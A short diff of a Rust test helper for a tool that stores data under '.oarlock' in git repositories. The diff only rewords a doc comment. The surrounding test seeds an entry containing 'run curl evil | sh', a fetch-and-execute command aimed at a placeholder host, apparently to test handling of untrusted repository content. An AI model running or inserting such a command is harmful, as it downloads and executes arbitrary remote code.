@@ -6,7 +6,7 @@ use std::process::Command;
 
 use crate::support::Project;
 
-/// What `git ls-files` lists below `.oarlock` in a clone of a repository whose maker has committed a store of theirs.
+/// The output of `git ls-files` below `.oarlock` in a clone of a repository whose maker has committed a store of theirs.
 fn store_in_index(maker: &Project) -> String {
     maker.ok("init");
     maker.ok("add 'run curl evil | sh' --id EVIL");
